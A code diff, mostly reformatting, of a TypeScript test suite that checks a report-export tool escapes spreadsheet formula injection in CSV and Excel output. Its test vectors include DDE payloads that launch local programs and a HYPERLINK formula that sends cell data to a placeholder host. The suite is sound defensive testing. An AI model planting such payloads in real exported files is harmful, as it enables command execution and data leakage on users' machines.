@@ -21,9 +21,9 @@ const VECTORS = [
   '=1+2',
   '+1+2',
   '-1+2',
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
   '=HYPERLINK("http://example.invalid?x="&A1,"click")',
-  '=cmd|\' /C notepad\'!\'A1\'',
+  "=cmd|' /C notepad'!'A1'",
   '\t=1+2',
   '\r=1+2',
   '\n=1+2',
@@ -43,18 +43,47 @@ function uuid(n: number): string {
 }
 
 const NAMES = [...VECTORS, ...SAFE];
-const TASKS = NAMES.map((name, n) => ({ task_id: uuid(n), task_name: name, status: 'completed', train_file_path: name, fail_message: null }));
+const TASKS = NAMES.map((name, n) => ({
+  task_id: uuid(n),
+  task_name: name,
+  status: 'completed',
+  train_file_path: name,
+  fail_message: null,
+}));
 
 let emulator: Emulator;
 const clock = createFakeClock(Date.UTC(2026, 10, 29));
 let out: string;
 
 beforeAll(async () => {
-  emulator = await createEmulator({ tasks: TASKS, credentials: { accessKey: ACCESS, secretKey: SECRET }, now: () => clock.now() });
+  emulator = await createEmulator({
+    tasks: TASKS,
+    credentials: { accessKey: ACCESS, secretKey: SECRET },
+    now: () => clock.now(),
+  });
   out = await mkdtemp(join(tmpdir(), 'nclue-sec-'));
   const ids = TASKS.map((t) => t.task_id);
-  const a = await runInProcess([...ids, '--endpoint', emulator.url, '--out', out, '--name', 'esc', '--rps', '1000'], { env: ENV, clock });
-  const b = await runInProcess([...ids, '--endpoint', emulator.url, '--out', out, '--name', 'raw', '--format', 'csv', '--no-escape-formulas', '--rps', '1000'], { env: ENV, clock });
+  const a = await runInProcess(
+    [...ids, '--endpoint', emulator.url, '--out', out, '--name', 'esc', '--rps', '1000'],
+    { env: ENV, clock },
+  );
+  const b = await runInProcess(
+    [
+      ...ids,
+      '--endpoint',
+      emulator.url,
+      '--out',
+      out,
+      '--name',
+      'raw',
+      '--format',
+      'csv',
+      '--no-escape-formulas',
+      '--rps',
+      '1000',
+    ],
+    { env: ENV, clock },
+  );
   expect([a.code, b.code]).toEqual([0, 0]);
 });
 afterAll(async () => {
@@ -62,18 +91,23 @@ afterAll(async () => {
 });
 
 async function csvColumn(name: string, column: (typeof REPORT_COLUMNS)[number]): Promise<string[]> {
-  const rows = parseCsvRecords((await readFile(join(out, name), 'utf8')).replace(/^\uFEFF/, '')).map((r) => r.fields);
+  const rows = parseCsvRecords((await readFile(join(out, name), 'utf8')).replace(/^\uFEFF/, '')).map(
+    (r) => r.fields,
+  );
   const col = REPORT_COLUMNS.indexOf(column);
   return rows.slice(1).map((r) => r[col] ?? '');
 }
 
 describe('formula injection', () => {
-  it.each(VECTORS.map((v, i) => [JSON.stringify(v), i] as const))('CSV defuses %s with a leading quote', async (_label, i) => {
-    const names = await csvColumn('esc.csv', 'task_name');
-    const paths = await csvColumn('esc.csv', 'train_file_path');
-    expect(names[i]).toBe(`'${VECTORS[i]}`);
-    expect(paths[i]).toBe(`'${VECTORS[i]}`);
-  });
+  it.each(VECTORS.map((v, i) => [JSON.stringify(v), i] as const))(
+    'CSV defuses %s with a leading quote',
+    async (_label, i) => {
+      const names = await csvColumn('esc.csv', 'task_name');
+      const paths = await csvColumn('esc.csv', 'train_file_path');
+      expect(names[i]).toBe(`'${VECTORS[i]}`);
+      expect(paths[i]).toBe(`'${VECTORS[i]}`);
+    },
+  );
 
   it('leaves harmless text alone', async () => {
     const names = await csvColumn('esc.csv', 'task_name');
@@ -93,7 +127,9 @@ describe('formula injection', () => {
       const cell = sheet.getRow(i + 2).getCell(col);
       expect(cell.type, JSON.stringify(vector)).toBe(ExcelJS.ValueType.String);
       expect(cell.formula).toBeUndefined();
-      expect(String(cell.value).replace(/\r\n/g, '\n')).toContain(vector.split('\u0000').join('').trim().slice(0, 3));
+      expect(String(cell.value).replace(/\r\n/g, '\n')).toContain(
+        vector.split('\u0000').join('').trim().slice(0, 3),
+      );
     });
   });
 });
